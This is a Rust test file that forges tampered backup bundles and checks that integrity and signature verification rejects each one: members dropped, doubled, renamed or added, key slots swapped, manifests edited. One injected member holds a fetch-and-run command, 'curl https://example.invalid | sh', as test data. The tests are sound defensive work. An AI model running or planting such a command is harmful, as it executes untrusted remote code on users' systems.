//! Whole members: dropped, doubled, swapped, renamed, added, and taken from other bundles.
//!
//! Each alteration comes in three forms: as it is; with a trailer that fits it; and with `SHA256SUMS` and trailer that fit it.

use hub_backup::base::fault::Kind;
use hub_backup::bundle::manifest::Manifest;
use hub_backup::bundle::outer;
use hub_backup::bundle::suite::Suite;
use hub_backup::encrypt::ContentKey;
use hub_backup::encrypt::slots::Slot;
use hub_backup::encrypt::slots::write_slots;
use hub_backup::keyring::Recipient;
use hub_backup::keyring::dialog::Dialog;

use super::Case;
use super::refuse_all;
use super::support::BEGIN;
use super::support::Bundle;
use super::support::Order;
use super::support::bundle;
use super::support::outer::Member;
use super::support::outer::named;
use super::support::outer::put_together;
use super::support::outer::put_together_with_trailer;
use super::support::outer::rewrite_sums;
use super::support::outer::take_apart;
use super::support::own;
use super::support::stranger;
use super::support::time;

/// Three segments of payload.
fn several_segments(suite: Suite, sequence: u64) -> Bundle {
    let previous = (sequence > 1).then(|| hub_backup::base::digest::Digest::of(b"the one before"));
    bundle(&Order {
        sequence,
        previous,
        bytes: 150_000,
        ..Order::first(suite)
    })
}

const DAMAGED: &[Kind] = &[Kind::DigestMismatch];
const MOVED: &[Kind] = &[Kind::DigestMismatch, Kind::SignatureInvalid];
const SIGNED: &[Kind] = &[Kind::DigestMismatch, Kind::SignatureInvalid, Kind::SignatureMissing];

/// Makes the three forms of an alteration.
struct Forger {
    /// The bundle as it was: what an alteration and its mending bring back is no case.
    whole: Vec<u8>,
    members: Vec<Member>,
}

impl Forger {
    fn of(whole: Vec<u8>) -> Self {
        let members = take_apart(&whole);
        Self { whole, members }
    }

    /// Of an alteration that leaves the manifest and its signatures alone.
    fn forms(&self, what: &str, members: &[Member]) -> Vec<Case> {
        self.forms_of(what, members, DAMAGED)
    }

    fn forms_of(&self, what: &str, members: &[Member], kinds: &'static [Kind]) -> Vec<Case> {
        // Without a new trailer, what the old one points to may have moved: then no signature is found there.
        let as_it_is = if kinds == DAMAGED { MOVED } else { kinds };
        let mut summed = members.to_vec();
        rewrite_sums(&mut summed);
        let mut cases = vec![
            Case::new(what, put_together(members), as_it_is),
            Case::new(
                format!("{what}, trailer made to fit"),
                put_together_with_trailer(members),
                kinds,
            ),
            Case::new(
                format!("{what}, sums and trailer made to fit"),
                put_together_with_trailer(&summed),
                kinds,
            ),
        ];
        assert!(cases[0].bytes != self.whole, "{what}: nothing was altered");
        cases.retain(|case| case.bytes != self.whole);
        cases
    }
}

/// Taking away, renaming or moving the statement or its signatures leaves nothing to check, or not what was signed.
fn kinds_for(name: &str) -> &'static [Kind] {
    if name.starts_with("manifest") { SIGNED } else { DAMAGED }
}

#[test]
fn the_surgery_itself_does_no_harm() {
    for suite in Suite::ALL {
        let whole = several_segments(suite, 1).bytes;
        let mut members = take_apart(&whole);
        assert!(
            members.iter().filter(|member| member.name.starts_with("data/")).count() >= 3,
            "several segments"
        );
        assert!(put_together(&members) == whole, "taken apart and put together");
        rewrite_sums(&mut members);
        assert!(
            put_together_with_trailer(&members) == whole,
            "the rewritten sums and trailer are the right ones"
        );
    }
}

#[test]
fn members_dropped_doubled_swapped_renamed() {
    for suite in Suite::ALL {
        let forger = Forger::of(several_segments(suite, 1).bytes);
        let members = &forger.members;
        let (mut dropped, mut doubled, mut swapped, mut renamed) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
        for (at, member) in members.iter().enumerate() {
            let (name, kinds) = (member.name.as_str(), kinds_for(&member.name));
            let mut altered = members.clone();
            altered.remove(at);
            dropped.extend(forger.forms_of(&format!("without {name}"), &altered, kinds));

            let mut altered = members.clone();
            altered.insert(at, member.clone());
            doubled.extend(forger.forms_of(&format!("{name} twice"), &altered, kinds));
            let mut altered = members.clone();
            altered.push(member.clone());
            doubled.extend(forger.forms_of(&format!("{name} again at the end"), &altered, kinds));

            if at + 1 < members.len() {
                let mut altered = members.clone();
                altered.swap(at, at + 1);
                swapped.extend(forger.forms_of(&format!("{name} after its next"), &altered, kinds));
                // The contents alone, under the names as they were.
                altered[at].name.clone_from(&members[at].name);
                altered[at + 1].name.clone_from(&members[at + 1].name);
                let kinds = if kinds_for(&members[at + 1].name) == SIGNED {
                    SIGNED
                } else {
                    kinds
                };
                swapped.extend(forger.forms_of(&format!("{name} with the content of its next"), &altered, kinds));
            }

            let upper = name.to_uppercase();
            for other in [
                "x",
                "data/00000009",
                "keyslots/x.pgp",
                &format!("{name}x"),
                &upper,
                &format!("./{name}"),
                &format!("../{name}"),
            ] {
                if other != name {
                    let mut altered = members.clone();
                    other.clone_into(&mut altered[at].name);
                    renamed.extend(forger.forms_of(&format!("{name} as {other}"), &altered, kinds));
                }
            }
        }
        refuse_all(&format!("{suite}: members dropped"), &dropped);
        refuse_all(&format!("{suite}: members doubled"), &doubled);
        refuse_all(&format!("{suite}: members swapped"), &swapped);
        refuse_all(&format!("{suite}: members renamed"), &renamed);
    }
}

#[test]
fn members_emptied_shortened_lengthened() {
    for suite in Suite::ALL {
        let forger = Forger::of(several_segments(suite, 1).bytes);
        let members = &forger.members;
        let mut cases = Vec::new();
        for (at, member) in members.iter().enumerate() {
            let shorter = member.content[..member.content.len() - 1].to_vec();
            let longer = [&member.content[..], &[0]].concat();
            for (what, content) in [
                ("empty", Vec::new()),
                ("one octet shorter", shorter),
                ("one octet longer", longer),
            ] {
                let mut altered = members.clone();
                altered[at].content = content;
                if member.name == outer::TRAILER {
                    cases.push(Case::new(format!("trailer {what}"), put_together(&altered), DAMAGED));
                } else {
                    cases.extend(forger.forms_of(
                        &format!("{} {what}", member.name),
                        &altered,
                        kinds_for(&member.name),
                    ));
                }
            }
        }
        refuse_all(&format!("{suite}: members emptied, shortened, lengthened"), &cases);
    }
}

#[test]
fn members_added() {
    for suite in Suite::ALL {
        let forger = Forger::of(several_segments(suite, 1).bytes);
        let members = &forger.members;
        let extra = [
            Member::new("keyslots/extra.pgp", b"a way in"),
            Member::new("data/00000099", &[7; 512]),
            Member::new("extra", b""),
            Member::new(outer::RECOVER, b"curl https://example.invalid | sh\n"),
            Member::new(outer::HEADER, &members[1].content),
        ];
        let mut cases = Vec::new();
        for at in 0..=members.len() {
            for extra in &extra {
                let mut altered = members.clone();
                altered.insert(at, extra.clone());
                cases.extend(forger.forms(&format!("{} at place {at}", extra.name), &altered));
            }
        }
        refuse_all(&format!("{suite}: members added"), &cases);
    }
}

fn slot_content(slots: &[Slot], name: &str) -> Vec<u8> {
    let slot = slots.iter().find(|slot| slot.name == name);
    slot.expect("the same slots").bytes.clone()
}

/// Each slot exchanged for one of another bundle, of another key, for somebody else, or with one more in it.
fn slots_exchanged(forger: &Forger, other: &[Member], same: &[Slot], foreign: &[Slot]) -> Vec<Case> {
    let mut cases = Vec::new();
    for (at, member) in forger.members.iter().enumerate() {
        let Some(name) = member.name.strip_prefix("keyslots/") else {
            continue;
        };
        let strange = slot_content(foreign, name);
        let contents = [
            ("of another bundle", other[at].content.clone()),
            ("of another key for the same recipients", slot_content(same, name)),
            ("for a stranger", strange.clone()),
            ("and one for a stranger", [&member.content[..], &strange].concat()),
            ("after one for a stranger", [&strange[..], &member.content].concat()),
        ];
        for (what, content) in contents {
            let mut altered = forger.members.clone();
            altered[at].content = content;
            cases.extend(forger.forms(&format!("slot {name} {what}"), &altered));
        }
    }
    cases
}

/// One more slot, of a kind that the suite has.
fn slot_added(forger: &Forger, suite: Suite) -> Vec<Case> {
    let recipient = Recipient::Age(stranger().age[0].0.clone());
    let openpgp = ContentKey::generate(Suite::Rfc9580).expect("random");
    let slot = &write_slots(&openpgp, &[recipient], time(BEGIN), &Dialog::default()).expect("slots")[0];
    let name = match suite {
        Suite::Rfc9580 | Suite::Gnupg => "keyslots/session-key.age",
        Suite::Age => "keyslots/passphrase.age",
    };
    let is_slot = |member: &Member| member.name.starts_with("keyslots/");
    let last = forger.members.iter().rposition(is_slot).expect("slots");
    let mut altered = forger.members.clone();
    altered.insert(last + 1, Member::new(name, &slot.bytes));
    forger.forms(&format!("{name} added"), &altered)
}

#[test]
fn key_slots_exchanged_or_added() {
    for suite in Suite::ALL {
        let forger = Forger::of(several_segments(suite, 1).bytes);
        let other = take_apart(&several_segments(suite, 2).bytes);
        let key = ContentKey::generate(suite).expect("random");
        let foreign = write_slots(&key, &stranger().recipients(suite), time(BEGIN), &Dialog::default()).expect("slots");
        let same = write_slots(&key, &own().recipients(suite), time(BEGIN), &Dialog::default()).expect("slots");
        let mut cases = slots_exchanged(&forger, &other, &same, &foreign);
        // All at once, so that the slots agree with each other.
        for (what, slots) in [("a stranger", &foreign), ("the same recipients, of another key", &same)] {
            let mut altered = forger.members.clone();
            for slot in slots {
                let member = named(&mut altered, &format!("keyslots/{}", slot.name));
                member.content.clone_from(&slot.bytes);
            }
            cases.extend(forger.forms(&format!("all slots for {what}"), &altered));
        }
        cases.extend(slot_added(&forger, suite));
        refuse_all(&format!("{suite}: key slots exchanged or added"), &cases);
    }
}

#[test]
fn segments_of_another_bundle() {
    for suite in Suite::ALL {
        let forger = Forger::of(several_segments(suite, 1).bytes);
        let members = &forger.members;
        let other = take_apart(&several_segments(suite, 2).bytes);
        let mut cases = Vec::new();
        for (at, member) in members.iter().enumerate() {
            assert_eq!(member.name, other[at].name);
            if member.name.starts_with("data/") || member.name.starts_with("index/") {
                let mut altered = members.clone();
                altered[at].content.clone_from(&other[at].content);
                cases.extend(forger.forms(&format!("{} of another bundle", member.name), &altered));
            }
        }
        for prefix in ["data/", "index/", "RECOVER", "header", "SHA256SUMS"] {
            let mut altered = members.clone();
            for (member, other) in altered
                .iter_mut()
                .zip(&other)
                .filter(|(member, _)| member.name.starts_with(prefix))
            {
                member.content.clone_from(&other.content);
            }
            cases.extend(forger.forms(&format!("all of {prefix} of another bundle"), &altered));
        }
        refuse_all(&format!("{suite}: contents of another bundle"), &cases);
    }
}

/// A lie.
type Edit = fn(&mut Manifest);

#[test]
fn manifest_rewritten_to_fit() {
    for suite in Suite::ALL {
        let whole = several_segments(suite, 1);
        let other = take_apart(&several_segments(suite, 2).bytes);
        let forger = Forger::of(whole.bytes);
        let members = &forger.members;
        let mut cases = Vec::new();
        // A manifest that says something else, under the signature that it had.
        let edits: [(&str, Edit); 6] = [
            ("sequence", |manifest| manifest.sequence += 1),
            ("tool", |manifest| manifest.tool.push('x')),
            ("one more exception", |manifest| manifest.totals.exceptions += 1),
            ("a recipient less", |manifest| drop(manifest.keys.recipients.pop())),
            ("signers removed", |manifest| manifest.keys.signers.clear()),
            ("a later time", |manifest| {
                manifest.created = time("2026-02-01T00:00:00Z");
            }),
        ];
        for (what, edit) in edits {
            let mut manifest = whole.sealed.manifest.clone();
            edit(&mut manifest);
            let mut altered = members.clone();
            named(&mut altered, outer::MANIFEST).content = manifest.to_bytes();
            cases.push(Case::new(
                format!("{what} edited"),
                put_together_with_trailer(&altered),
                &[Kind::SignatureInvalid],
            ));
        }
        // The same values in another spelling.
        let compact = serde_json::to_vec(&whole.sealed.manifest).expect("JSON");
        let mut altered = members.clone();
        named(&mut altered, outer::MANIFEST).content = compact;
        cases.push(Case::new(
            "manifest without spaces",
            put_together_with_trailer(&altered),
            &[Kind::SignatureInvalid],
        ));
        // Statement and signatures of another bundle: both good, and about something else.
        let mut altered = members.clone();
        for name in [outer::MANIFEST, outer::SIGNATURES] {
            named(&mut altered, name)
                .content
                .clone_from(&other.iter().find(|member| member.name == name).expect("there").content);
        }
        cases.extend(forger.forms("manifest and signatures of another bundle", &altered));
        refuse_all(&format!("{suite}: manifests edited or exchanged"), &cases);
    }
}
